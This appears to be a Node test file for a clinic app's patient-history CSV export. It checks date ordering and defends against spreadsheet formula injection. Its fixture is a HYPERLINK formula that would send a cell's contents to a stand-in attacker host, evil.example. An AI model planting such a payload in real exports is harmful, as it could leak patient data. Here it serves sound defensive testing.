// What docs/api.md promises of the history CSV whatever its columns: rows oldest first by the
// record's date (not the order they were stored in), and a cell a spreadsheet would run as a
// formula (text beginning with =) neutralised. The dates and the hostile text are written
// straight into the database, as an import or an older version could have left them.
// Own server: rows written straight into its database.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { parse } from "csv-parse/sync";
import { romBody } from "@/lib/assessments/examples";
import { createTestDatabase, queryDatabase, type TestDatabase } from "@/test/support/database";
import { apiClient } from "@/test/support/http";
import { startServer, type TestServer } from "@/test/support/server";

const as = (persona: string) => ({ headers: { authorization: "Bearer development", "x-dev-user": persona } });
const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"open")';
const DAY_MS = 86_400_000;

let database: TestDatabase;
let server: TestServer;
let patientId: number;
/** The codes as stored (first to last) and the dates given to them. */
const stored: { code: string; formattedCode: string; daysAgo: number }[] = [];

before(async () => {
  database = await createTestDatabase();
  const env = { AUTH0_DOMAIN: undefined };
  const first = await startServer({ database, env });
  const api = apiClient(first.origin);
  const clinic = (await api.post<{ id: number; joinCode: string }>("/clinics", { name: "Cells clinic" }, as("admin"))).body;
  assert.equal((await api.post(`/clinics/${clinic.id}/members`, { sub: "dev|care-provider", role: "clinician" }, as("admin"))).status, 201);
  assert.equal((await api.post("/me/clinics", { joinCode: clinic.joinCode }, as("patient"))).status, 201);
  for (const daysAgo of [1, 10, 5]) {
    const made = await api.post<{ code: string; formattedCode: string }>("/assessments/rom", romBody, as("patient"));
    assert.equal(made.status, 201);
    stored.push({ ...made.body, daysAgo });
  }
  patientId = (await api.get<{ id: number }>("/patients/me", as("patient"))).body.id;
  // A clinician's note is a whole cell of its own (the value of its row): the hostile text at its start.
  assert.equal((await api.post(`/patients/${patientId}/notes`, { text: FORMULA }, as("care_provider"))).status, 201);
  await first.stop();
  for (const { code, daysAgo } of stored) {
    await queryDatabase(database, "UPDATE assessments SET date_created = $2 WHERE code = $1", [
      code,
      new Date(Date.now() - daysAgo * DAY_MS).toISOString(),
    ]);
  }
  await queryDatabase(
    database,
    `UPDATE assessments SET result_snapshot = jsonb_set(result_snapshot, '{lightingQuality}', to_jsonb($2::text)) WHERE code = $1`,
    [stored[0]!.code, FORMULA],
  );
  server = await startServer({ database, env });
});
after(async () => {
  await server?.stop();
  await database?.drop();
});

async function history(): Promise<string[][]> {
  const answer = await apiClient(server.origin).get<string>(`/patients/${patientId}/export`, as("care_provider"));
  assert.equal(answer.status, 200);
  return parse(answer.body, { bom: true }) as string[][];
}

test("the history CSV lists the records oldest first by their date, not in the order they were stored", async () => {
  const [, ...rows] = await history();
  const codeOf = (row: string[]) => stored.find(({ formattedCode, code }) => row.includes(formattedCode) || row.includes(code));
  // One row per measurement: a record's rows stand together, so the records' order is the runs'.
  const order = rows.map((row) => codeOf(row)?.daysAgo).filter((daysAgo) => daysAgo !== undefined);
  assert.deepEqual(
    order.filter((daysAgo, index) => daysAgo !== order[index - 1]),
    [10, 5, 1],
  );
});

test("a cell beginning with = is neutralised: no cell of the CSV starts a formula, and the text is kept behind an apostrophe", async () => {
  const cells = (await history()).flat();
  assert.deepEqual(
    cells.filter((cell) => /^[=+@\t\r]/.test(cell) || /^-[^\d]/.test(cell)),
    [],
  );
  assert.ok(cells.includes(`'${FORMULA}`), "the note's text is still there, behind an apostrophe");
});
